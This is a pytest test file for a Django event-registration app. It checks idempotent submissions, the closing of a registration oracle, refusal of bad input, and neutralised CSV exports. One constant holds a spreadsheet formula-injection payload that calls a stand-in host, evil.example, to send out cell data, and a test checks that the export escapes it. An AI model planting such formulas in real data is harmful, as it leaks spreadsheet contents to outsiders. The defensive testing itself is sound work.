"""Issue 20 and 11 in events: one record per intention, bad input answered clearly, neutral exports, no oracle."""

from __future__ import annotations

import re
import threading
from datetime import timedelta

import pytest
from django.core import mail
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from maillage.core.submission import FIELD_NAME, new_key
from maillage.events import services
from maillage.events.forms import PointsForm
from maillage.events.models import (
    Attendance,
    Breakout,
    Event,
    EventKind,
    Group,
    NotePoint,
    Participant,
    Registration,
    Session,
    Status,
    Theme,
)
from tests.events.conftest import confirm
from tests.events.factories import EventFactory, SessionFactory

pytestmark = [pytest.mark.usefixtures("_site_url")]

EVIL = '=HYPERLINK("http://evil.example/x?"&A1,"Cliquez ici")'


def form_data(**overrides: str) -> dict[str, str]:
    data = {
        "full_name": "Awa Diallo",
        "email": "awa@example.org",
        "organisation_name": "Asbl Quartier",
        "function": "Assistante sociale",
        "accessibility_needs": "",
    }
    data.update(overrides)
    return data


# -- the "already registered" oracle (issue 11, hole 7) ---------------------------------------------


@pytest.mark.django_db
def test_a_registered_address_gets_the_same_page_as_a_new_one(client, event, register):
    victim = register(event, email="victim@example.org")
    services.cancel_registration(victim.registrations[0])
    url = reverse("events:event", args=[event.slug])
    pages = []
    for email in ("newcomer@example.org", "victim@example.org"):
        visitor = Client()
        response = visitor.post(url, form_data(email=email), follow=True)
        page = response.content.decode().replace(email, "EMAIL")
        pages.append(re.sub(r'"X-CSRFToken": "\w+"|name="csrfmiddlewaretoken" value="\w+"', "", page))
    assert pages[0] == pages[1]
    assert Registration.objects.get(participant=victim.participant).status == Status.CANCELLED


@pytest.mark.django_db
def test_the_personal_link_brings_a_cancelled_registration_back(client, event, register):
    result = register(event)
    services.cancel_registration(result.registrations[0])
    token = result.participant.token
    page = client.get(reverse("events:participant", args=[token]))
    assert 'name="theme"' not in page.content.decode()
    response = client.post(reverse("events:participant_register", args=[token]), follow=True)
    assert [str(m) for m in response.context["messages"]] == [
        "Réinscription enregistrée : En attente de confirmation par e-mail."
    ]
    assert Registration.objects.get(pk=result.registrations[0].pk).status == Status.PENDING
    assert client.post(reverse("events:participant_register", args=["forged"])).status_code == 404
    assert client.post(reverse("events:participant_register", args=[token]), {"theme": "x"}).status_code == 400


@pytest.mark.django_db
def test_the_personal_link_adds_a_theme_of_the_series(client, register):
    event = EventFactory(kind=EventKind.WORKSHOP_SERIES)
    one = Theme.objects.create(event=event, position=1, title_fr="Logement")
    two = Theme.objects.create(event=event, position=2, title_fr="Santé")
    result = register(event, themes=[one])
    page = client.get(reverse("events:participant", args=[result.participant.token]))
    assert page.context["more_themes"] == [two]
    client.post(reverse("events:participant_register", args=[result.participant.token]), {"theme": two.pk})
    assert sorted(result.participant.registrations.values_list("theme__title_fr", "status")) == [
        ("Logement", Status.PENDING),
        ("Santé", Status.PENDING),
    ]
    other = EventFactory(kind=EventKind.WORKSHOP_SERIES)
    foreign = Theme.objects.create(event=other, position=1, title_fr="Ailleurs")
    response = client.post(
        reverse("events:participant_register", args=[result.participant.token]), {"theme": foreign.pk}
    )
    assert response.status_code == 404


@pytest.mark.django_db
def test_rapporteur_links_expire_after_the_event(client, organiser, settings):
    settings.MAILLAGE_RAPPORTEUR_LINK_DAYS = 7
    event = EventFactory()
    ends = timezone.now() - timedelta(days=8)
    SessionFactory(event=event, starts_at=ends - timedelta(hours=2), ends_at=ends)
    breakout = services.add_breakout(organiser, event, "Groupe A")
    url = reverse("events:rapporteur", args=[services.rapporteur_token(breakout)])
    response = client.get(url)
    assert response.status_code == 410
    assert response.context["reason"] == (
        f"Ce lien de rapporteur a expiré le {timezone.localtime(ends + timedelta(days=7)):%d/%m/%Y}, "
        "après l'événement. Demandez les notes aux organisateurs."
    )
    question = event.questions.first()
    assert client.post(url, {"question": question.pk, "text": "- Tard"}).status_code == 410
    assert NotePoint.objects.count() == 0
    settings.MAILLAGE_RAPPORTEUR_LINK_DAYS = 30
    assert client.get(url).status_code == 200


# -- one record per intention -----------------------------------------------------------------------


@pytest.mark.django_db
def test_a_resubmitted_registration_answers_with_the_first(client, event, django_capture_on_commit_callbacks):
    url = reverse("events:event", args=[event.slug])
    data = form_data(**{FIELD_NAME: new_key()})
    with django_capture_on_commit_callbacks(execute=True):
        first = client.post(url, data)
        again = client.post(url, data, follow=True)
    assert first["Location"] == reverse("events:registered", args=[event.slug])
    assert [str(m) for m in again.context["messages"]] == [
        "Votre inscription a déjà été reçue : consultez vos e-mails."
    ]
    assert (Registration.objects.count(), len(mail.outbox)) == (1, 1)


def _concurrent(count: int, work) -> list[BaseException]:  # type: ignore[no-untyped-def]
    errors: list[BaseException] = []
    barrier = threading.Barrier(count)

    def run(index: int) -> None:
        try:
            barrier.wait()
            work(index)
        except BaseException as error:
            errors.append(error)
        finally:
            connection.close()

    threads = [threading.Thread(target=run, args=(index,)) for index in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return errors


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("same_key", [True, False], ids=["one-key", "two-tabs"])
def test_one_person_registering_twice_at_once_gets_one_registration(same_key):
    """A double click (one key) or two devices (two keys): one participant, one registration, no error."""
    event = EventFactory(capacity=10)
    SessionFactory(event=event)
    url = reverse("events:event", args=[event.slug])
    keys = [new_key()] * 4 if same_key else [new_key() for _ in range(4)]
    answers: list[int] = []

    def post(index: int) -> None:
        response = Client().post(url, form_data(**{FIELD_NAME: keys[index]}))
        answers.append(response.status_code)

    assert _concurrent(4, post) == []
    assert answers == [302] * 4
    assert (Participant.objects.filter(event=event).count(), Registration.objects.filter(event=event).count()) == (
        1,
        1,
    )


@pytest.mark.django_db
def test_creating_forms_of_organisers_make_one_record_per_key(organiser_client, organisation):
    new = reverse("events:new_event")
    data = {
        "part": "event",
        "organisation": organisation.pk,
        "kind": EventKind.WORKSHOP_SERIES,
        "slug": "cycle-logement",
        "title_fr": "Cycle logement",
        "audience": "anyone",
        "confirmation_hours": 48,
        "offer_hours": 48,
        FIELD_NAME: new_key(),
    }
    first = organiser_client.post(new, data)
    event = Event.objects.get()
    assert first["Location"] == reverse("events:edit_event", args=[event.pk])
    again = organiser_client.post(new, data, follow=True)
    assert [str(m) for m in again.context["messages"]][-1] == "L'événement « Cycle logement » était déjà enregistré."
    edit = reverse("events:edit_event", args=[event.pk])
    parts = {
        "theme": {"theme-position": 1, "theme-title_fr": "Logement"},
        "group": {"group-position": 1, "group-name": "Groupe A"},
        "session": {
            "session-starts_at": "2030-03-02T09:00",
            "session-ends_at": "2030-03-02T12:00",
            "session-title": "Matin",
        },
    }
    for part, values in parts.items():
        posted = {"part": part, FIELD_NAME: new_key(), **values}
        organiser_client.post(edit, posted)
        organiser_client.post(edit, posted)
    assert (Theme.objects.count(), Group.objects.count(), Session.objects.count()) == (1, 1, 1)
    notes = reverse("events:notes", args=[event.pk])
    breakout = {"breakout-name": "Sous-groupe 1", FIELD_NAME: new_key()}
    organiser_client.post(notes, breakout)
    organiser_client.post(notes, breakout)
    assert Breakout.objects.count() == 1
    question = event.questions.first()
    points = {
        "points-breakout": Breakout.objects.get().pk,
        "points-question": question.pk,
        "points-text": "- Un\n- Deux",
        FIELD_NAME: new_key(),
    }
    organiser_client.post(notes, points)
    response = organiser_client.post(notes, points, follow=True)
    assert [str(m) for m in response.context["messages"]][-1] == "Ces points étaient déjà ajoutés."
    assert NotePoint.objects.count() == 2


@pytest.mark.django_db
def test_rapporteur_notes_once_per_key(client, organiser):
    event = EventFactory()
    breakout = services.add_breakout(organiser, event, "Groupe B")
    url = reverse("events:rapporteur", args=[services.rapporteur_token(breakout)])
    data = {"question": event.questions.first().pk, "text": "- Idée", FIELD_NAME: new_key()}
    client.post(url, data)
    response = client.post(url, data, follow=True)
    assert [str(m) for m in response.context["messages"]][-1] == "Ces points étaient déjà ajoutés."
    assert NotePoint.objects.count() == 1


# -- bad input at the door and in forms -------------------------------------------------------------


@pytest.mark.django_db
def test_door_refuses_a_tampered_registration_clearly(organisation, organiser_client, register):
    event = EventFactory(organisation=organisation)
    session = SessionFactory(event=event)
    other = register(EventFactory())
    url = reverse("events:door", args=[event.pk, session.pk])
    for value in ("abc", "99999999999999999999999", "", str(other.registrations[0].pk)):
        response = organiser_client.post(url, {"registration": value})
        assert response.status_code == 422, value
        assert [str(m) for m in response.context["messages"]] == [
            "Cette personne n'est pas sur la liste de cet événement : cherchez à nouveau le nom."
        ]
    assert Attendance.objects.count() == 0
    assert organiser_client.get(url, {"q": "a\x01b"}).status_code == 400


@pytest.mark.django_db
def test_door_check_in_once_per_key(organisation, organiser_client, register):
    event = EventFactory(organisation=organisation)
    session = SessionFactory(event=event)
    result = register(event, full_name="Bea Bel")
    confirm(result.participant)
    url = reverse("events:door", args=[event.pk, session.pk])
    data = {"registration": result.registrations[0].pk, FIELD_NAME: new_key()}
    organiser_client.post(url, data)
    response = organiser_client.post(url, data, follow=True)
    attendance = Attendance.objects.get()
    assert [str(m) for m in response.context["messages"]][-1] == (
        f"Bea Bel était déjà enregistré·e à {timezone.localtime(attendance.checked_in_at):%H:%M}."
    )


@pytest.mark.django_db
def test_text_fields_refuse_control_characters_and_endless_text(client, organiser, event):
    url = reverse("events:event", args=[event.slug])
    response = client.post(url, form_data(accessibility_needs="x" * 1001))
    assert response.status_code == 422
    assert response.context["form"].errors == {
        "accessibility_needs": ["Assurez-vous que cette valeur comporte au plus 1000 caractères (actuellement 1001)."],
    }
    assert client.post(url, form_data(full_name="Awa\x07")).status_code == 400  # refused at the edge
    assert Registration.objects.count() == 0
    # Behind the edge, the forms refuse them too (an import or a test client calling the form).
    form = PointsForm({"breakout": "", "question": "", "text": "a\x07b" + "x" * 10_000}, event=event)
    assert form.errors["text"] == [
        "Le texte contient des caractères non autorisés.",
        "Assurez-vous que cette valeur comporte au plus 10000 caractères (actuellement 10003).",
    ]


# -- exports --------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_formula_for_a_name_is_neutralised_in_the_attendance_csv(organisation, organiser_client, register):
    event = EventFactory(organisation=organisation)
    SessionFactory(event=event)
    result = register(event, full_name=EVIL, email="evil@example.org", organisation_name="@SUM(1+1)")
    confirm(result.participant)
    response = organiser_client.get(reverse("events:attendance_csv", args=[event.pk]))
    assert response["Cache-Control"] == "no-store, private"
    body = b"".join(response.streaming_content).decode()
    assert body.splitlines()[1] == (
        '"\'=HYPERLINK(""http://evil.example/x?""&A1,""Cliquez ici"")";evil@example.org;\'@SUM(1+1);;;absent·e'
    )


@pytest.mark.django_db
def test_a_double_clicked_message_is_sent_once(
    organisation, organiser_client, register, django_capture_on_commit_callbacks
):
    event = EventFactory(organisation=organisation)
    SessionFactory(event=event)
    confirm(register(event, email="one@example.org").participant)
    mail.outbox.clear()
    url = reverse("events:message", args=[event.pk])
    data = {"audience": "event", "subject": "Salle", "body": "Salle 2", FIELD_NAME: new_key()}
    with django_capture_on_commit_callbacks(execute=True):
        organiser_client.post(url, data)
        response = organiser_client.post(url, data, follow=True)
    assert [str(m) for m in response.context["messages"]][-1] == "Ce message a déjà été envoyé à 1 personnes."
    assert [m.subject for m in mail.outbox] == [f"{event.title_fr}: Salle"]


@pytest.mark.django_db
def test_a_new_recommendation_is_saved_once_per_key(organisation, organiser_client):
    event = EventFactory(organisation=organisation)
    url = reverse("events:recommendations", args=[event.pk])
    data = {"position": 1, "diagnosis": "Constat", "recommendation": "Agir", FIELD_NAME: new_key()}
    organiser_client.post(url, data)
    response = organiser_client.post(url, data, follow=True)
    assert [str(m) for m in response.context["messages"]][-1] == "Cette recommandation était déjà enregistrée."
    assert event.recommendations.count() == 1


@pytest.mark.django_db
def test_the_notes_page_says_until_when_rapporteur_links_work(organisation, organiser_client, organiser, settings):
    settings.MAILLAGE_RAPPORTEUR_LINK_DAYS = 30
    event = EventFactory(organisation=organisation)
    session = SessionFactory(event=event)
    services.add_breakout(organiser, event, "Groupe C")
    response = organiser_client.get(reverse("events:notes", args=[event.pk]))
    assert response.context["links_end"] == session.ends_at + timedelta(days=30)


@pytest.mark.django_db
def test_a_scanned_code_posted_twice_checks_in_once(organisation, organiser_client, register):
    event = EventFactory(organisation=organisation, invitation_only=True)
    session = SessionFactory(event=event)
    result = register(event, full_name="Chloé Scan")
    confirm(result.participant)
    registration = Registration.objects.get(pk=result.registrations[0].pk)
    url = reverse("events:checkin_scan", args=[services.checkin_token(registration, session)])
    data = {FIELD_NAME: new_key()}
    organiser_client.post(url, data)
    response = organiser_client.post(url, data, follow=True)
    attendance = Attendance.objects.get()
    assert [str(m) for m in response.context["messages"]][-1] == (
        f"Chloé Scan était déjà enregistré·e à {timezone.localtime(attendance.checked_in_at):%H:%M}."
    )
